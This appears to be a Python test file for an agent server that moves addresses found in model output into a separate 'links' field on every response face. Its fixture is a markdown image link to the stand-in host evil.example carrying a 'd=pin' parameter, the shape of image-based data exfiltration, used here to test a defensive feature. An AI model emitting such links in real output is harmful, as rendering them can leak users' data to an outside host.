"""Where a model's text leaves, at whatever face, the addresses in it stand beside it as data."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

from ordain.contracts.conversation import Question
from ordain.models.scripted import ScriptedModel, make_script
from tests.e2e.approving import furnish
from tests.e2e.proposals import act, case, finish
from tests.integration.server.openai_house import house, said, turns

LEADS = "See ![c](https://evil.example/c.png?d=pin)."
WANTED = [{"url": "https://evil.example/c.png?d=pin", "host": "evil.example", "image": True}]
TOLD = frozenset({"content", "final_text", "narrative", "text", "text_input"})
"""Fields that hold what somebody reads."""

PLAN = {
    "goal": {"type": "analysis", "description": "This is case look."},
    "toolset": [{"tool_id": "math.evaluate"}],
}
SCRIPT = {
    "verbs": {
        "chat_general": [{"content": LEADS}],
        "summarize_facts": [{"bullets": [{"text": LEADS}], "method": "analysed"}],
    },
    "cases": [
        case("look", finish(LEADS)),
        case(
            "quoted",
            act("summarize_facts", LEADS, facts=[{"text": "It opens."}]),
            act("math.evaluate", expression="1/0"),
            finish("Nothing leads anywhere."),
        ),
        case(
            "which",
            act("ask_user", question=LEADS, expected_type="freeform", key="k"),
            finish(LEADS),
        ),
    ],
}


def lonely(value: object, links: object = None) -> Iterator[tuple[str, object]]:
    """Each text with the address, and what stands for its links: beside it, else beside what it is
    a part of.

    What repeats the text of an object beside it is "again".
    """
    if isinstance(value, dict):
        fields = cast("dict[str, Any]", value)
        links = fields.get("links", links)
        for name, one in fields.items():
            if isinstance(one, str) and name in TOLD and "evil.example" in one:
                yield "again" if "cortex_result" in fields else name, links
            elif name not in {"links", "header", "trace", "recallDebug"}:
                yield from lonely(one, links)
    elif isinstance(value, list):
        for one in cast("list[object]", value):
            yield from lonely(one, links)


async def test_every_text_of_a_model_has_its_addresses_beside_it(tmp_path: Path) -> None:
    """A plan's answer, a verb's output, a reply, a question, a transcript, a run at rest, and
    OpenAI's shapes; in no record.
    """
    async with house(tmp_path, model=ScriptedModel(make_script(**SCRIPT))) as (ordain, http):
        asked = {"sessionId": "s", "userId": "ada", "message": {"text": "Tell me."}}
        which = {
            **asked,
            "sessionId": "q",
            "message": {"text": "This is case which."},
            "context": {"routingHints": {"mode": "agent"}},
        }
        replied = (await http.post("/messages", json=asked)).json()
        question = (await http.post("/messages", json=which)).json()
        planned = (await http.post("/plan/react", json=PLAN)).json()
        called = (
            await http.post(
                "/verbs/execute", json={"verb_id": "chat_general", "payload": {"text": "Tell me."}}
            )
        ).json()
        assert question["question"]["text"] == LEADS
        seen = [
            replied,
            question,
            planned,
            called,
            *[
                (await http.get(f"/runs/{run}")).json()
                for run in (replied["runId"], planned["run_id"], called["run_id"])
            ],
            *[(await http.get(f"/sessions/{session}/messages")).json() for session in ("s", "q")],
            (await http.post("/api/chat", json={"text_input": "Tell me."})).json(),
            (
                await http.post(
                    "/api/chat",
                    json={"text_input": "This is case which.", "mode": "agent", "session_id": "h"},
                )
            ).json(),
            (await http.post("/v1/cortex/chat", json={"prompt": "Tell me."})).json(),
        ]
        for answer in seen:
            found = list(lonely(answer))
            assert found, answer
            assert all(links == WANTED for name, links in found if name != "again"), answer
            assert WANTED in [links for _, links in found], answer
        assert (await said(http, turns("This is case which."), model="ordain-agent"))["ordain"][
            "links"
        ] == WANTED
        below = [row.id for row in await ordain.runtime.runs(roots_only=False, limit=100)]
        records = [
            one.body or b""
            for run in below
            for one in (await ordain.runtime.view(run)).stored.records
        ]
        assert not [one for one in records if b'"links"' in one]


async def test_what_a_header_quotes_has_its_addresses_beside_the_header(tmp_path: Path) -> None:
    """A verb's output in the header of a turn that said nothing of it, on every face that shows a
    header, below which it may be rendered; of a step's own words each step of a trace has them.
    """
    quoted = "This is case quoted."
    async with house(tmp_path, model=ScriptedModel(make_script(**SCRIPT))) as (_, http):
        asked = {
            "sessionId": "s",
            "userId": "ada",
            "message": {"text": quoted},
            "context": {"routingHints": {"mode": "agent"}},
        }
        replied = (await http.post("/messages", json=asked)).json()
        run = (await http.get(f"/runs/{replied['runId']}")).json()
        planned = (
            await http.post(
                "/plan/react",
                json={
                    "goal": {"type": "analysis", "description": quoted},
                    "toolset": [{"tool_id": "summarize_facts"}, {"tool_id": "math.evaluate"}],
                },
            )
        ).json()
        chat = {"prompt": quoted, "mode": "agent"}
        spoken = await said(http, turns(quoted), model="ordain-agent")
        for answer in (
            replied["reply"],
            run,
            planned,
            (await http.post("/v1/cortex/chat", json=chat)).json()["cortex_result"],
            spoken["ordain"],
            *[
                one
                for one in (await http.get("/sessions/s/messages")).json()["entries"]
                if one["event"] == "reply"
            ],
        ):
            assert "evil.example" in answer["header"]
            assert answer["links"] == WANTED
        assert "evil.example" in spoken["choices"][0]["message"]["content"]
        assert [step.get("links") for step in planned["trace"]] == [WANTED, None, None]


async def test_whoever_is_asked_for_a_yes_has_the_addresses_beside_what_they_look_at(
    tmp_path: Path,
) -> None:
    """The approval itself, its entry in the transcript and the answer to the message that waits for
    it; in a list of approvals no text of a model stands.
    """
    furnish(tmp_path)
    async with house(tmp_path) as (_, http):
        workflow = {"template": "announce", "args": {"text": LEADS}}
        answer = (
            await http.post(
                "/messages",
                json={
                    "sessionId": "s",
                    "userId": "ada",
                    "message": {"text": "Tell them."},
                    "context": {"routingHints": {"workflow": workflow}},
                },
            )
        ).json()
        waits = answer["approval"]
        assert waits["links"] == WANTED
        shown = (await http.get(f"/approvals/{waits['approvalId']}")).json()
        assert LEADS in str(shown["calls"])
        assert shown["links"] == WANTED
        told = (await http.get("/sessions/s/messages")).json()["entries"]
        assert [one["links"] for one in told if one["event"] == "approval"] == [WANTED]
        (listed,) = (await http.get("/approvals")).json()["approvals"]
        assert "evil.example" not in str(listed)


def test_the_addresses_of_what_may_be_chosen_stand_beside_the_question() -> None:
    """Options are a model's words as its question is."""
    question = Question.model_validate(
        {
            "key": "k",
            "expected_type": "choice",
            "text": "Which?",
            "options": [{"key": "A", "label": "This."}, {"key": "B", "label": LEADS}],
            "message_id": "m",
            "expires_at_ms": 1,
        }
    )
    assert question.model_dump(mode="json")["links"] == WANTED


async def test_a_run_that_leads_nowhere_is_as_it_was(tmp_path: Path) -> None:
    """Without an address in a text there is no such field."""
    async with house(tmp_path) as (_, http):
        replied = (
            await http.post(
                "/messages",
                json={"sessionId": "s", "userId": "a", "message": {"text": "Which day?"}},
            )
        ).json()
        assert "links" not in replied["reply"]
        assert "links" not in (await http.get(f"/runs/{replied['runId']}")).json()["response"]
